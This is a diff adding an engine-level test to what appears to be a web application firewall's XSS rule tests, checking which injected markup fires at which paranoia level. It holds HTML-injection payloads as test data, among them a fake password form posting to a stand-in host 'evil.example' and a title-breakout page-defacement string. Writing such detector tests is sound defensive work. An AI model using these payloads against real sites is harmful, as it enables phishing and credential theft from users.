@@ -6,6 +6,10 @@ import { scanHtmlInjection, scanJsStatement, KNOWN_ELEMENTS } from './html-injec
 import { applyChain } from '../transforms.ts';
 import type { PartRule } from '../types.ts';
 import type { Location } from '../../core/types.ts';
+import { RequestContext } from '../../core/context.ts';
+import { validatePolicy } from '../../config/load.ts';
+import { PayloadEngine } from '../engine.ts';
+import { ruleRegistry } from '../registry.ts';
 
 /**
  * Rule ids of the XSS rules up to `paranoia` that fire on a (parser-decoded) value found at a location of
@@ -197,4 +201,37 @@ test('generalises to vectors written for this test (mXSS, entity-split schemes, 
 test('API and prose text with markup-like characters stays clean', () => {
   const text = ["Terms & Conditions (updated 2024); see section 3(a)", "Q: How do I select all? A: press Ctrl+A", "Error: can't connect to host 'db-1' (timeout)", "Run `SELECT * FROM users` to check", "if (x > 0 && y < 10) { return; }", "O'Reilly & Sons; 'Best-sellers' -- 2024 edition", "Please don't drop the table; it's fragile", "<3 you", "x => y", "<<EOF", "I'd like 2 or 3 more", "Order by phone: 555-0100", "group by region (EMEA)", "He said: 'union is strength'", "rock'n'roll; select your seat", "user@example.com; admin@example.com", "SELECT-2000 model", "(555) 010-0199", "100 - 20 = 80", "It's 50% off -- today only!", "x-www-form-urlencoded", "Price (USD): 1,299.00", "Dear 'Customer', your order #123 shipped", "on the 'Desktop' or 'Mobile' app", "Use onClick handler in React", "alert: disk almost full (95%)", "confirm your email", "The javascript: protocol is blocked", "See <https://example.com>", "{{user.first_name}}, welcome!", "Hello ${name}", "`code` and ```block```", "1' 2\" tall", "Sort: name asc; limit 10", "where=city eq 'Paris' and active eq true", "filter=status in ('a','b')", "q=title:\"hello world\" OR tags:news", "--verbose --output=json", "#hashtag #another", "/* not a comment */ really", "100%; drop", "data:image/png;base64,iVBORw0KGgo=", "Hi! :-) ;-) <:o)", "a = b; c = d;", "Tom & Jerry's \"best\" episodes (1940-1958)"];
   for (const t of text) assert.deepEqual(fired(t), [], `false positive: ${t}`);
+});
+
+test('through the engine: markup blocks in the query and form body at PL1, HTML in a JSON body only scores at PL2', () => {
+  const req = (target: string, body?: { type: string; text: string }) => {
+    const headers: Record<string, string> = { host: 'api.example.test', 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0' };
+    if (body) headers['content-type'] = body.type;
+    const c = new RequestContext({ id: 't', clientIp: '192.0.2.1', clientKey: '192.0.2.1', peerIp: '192.0.2.1', method: body ? 'POST' : 'GET', target, headers });
+    if (body) c.body = { bytes: Buffer.from(body.text), truncated: false };
+    return c;
+  };
+  const inspect = (pl: number, c: RequestContext) => {
+    const e = new PayloadEngine(validatePolicy({ detection: { paranoiaLevel: pl } }).detection, ruleRegistry());
+    const s = [...e.inspectRequest(c)];
+    if (c.body) s.push(...e.inspectBody(c));
+    return s.filter((x) => x.category === 'xss');
+  };
+  const score = (sigs: { score: number }[]) => sigs.reduce((a, x) => a + x.score, 0);
+  // a fake login form injected through a query parameter: no script, still HTML injection (941160, 5 points)
+  const q = inspect(1, req('/search?q=' + encodeURIComponent('"><form action=//evil.example><input name=pw type=password>')));
+  assert.ok(q.some((x) => x.ruleId === 'xss.941160'), JSON.stringify(q));
+  assert.ok(score(q) >= 5);
+  const f = inspect(1, req('/login', { type: 'application/x-www-form-urlencoded', text: 'user=' + encodeURIComponent('</title><h1>Site moved</h1>') }));
+  assert.ok(f.some((x) => x.ruleId === 'xss.941160'), JSON.stringify(f));
+  const js = inspect(1, req('/p?next=' + encodeURIComponent('navigator.sendBeacon(1)')));
+  assert.ok(js.some((x) => x.ruleId === 'xss.941371'), JSON.stringify(js));
+  // rich text in JSON: nothing at PL1; PL2 scores it (941161, error = 4 points) without reaching the threshold alone
+  const json = { type: 'application/json', text: JSON.stringify({ subject: 'Hi', html_content: '<html><body><p>Hello <b>Ana</b></p></body></html>' }) };
+  assert.deepEqual(inspect(1, req('/v3/templates', json)), []);
+  const pl2 = inspect(2, req('/v3/templates', json));
+  assert.deepEqual(pl2.map((x) => x.ruleId), ['xss.941161']);
+  assert.ok(score(pl2) < 5);
+  // placeholders in a query string stay clean at PL1
+  assert.deepEqual(inspect(1, req('/oauth/token?access_token=<access_token_value>&cert=' + encodeURIComponent('<your x509 certificate>') + '&code=<code>')), []);
 });
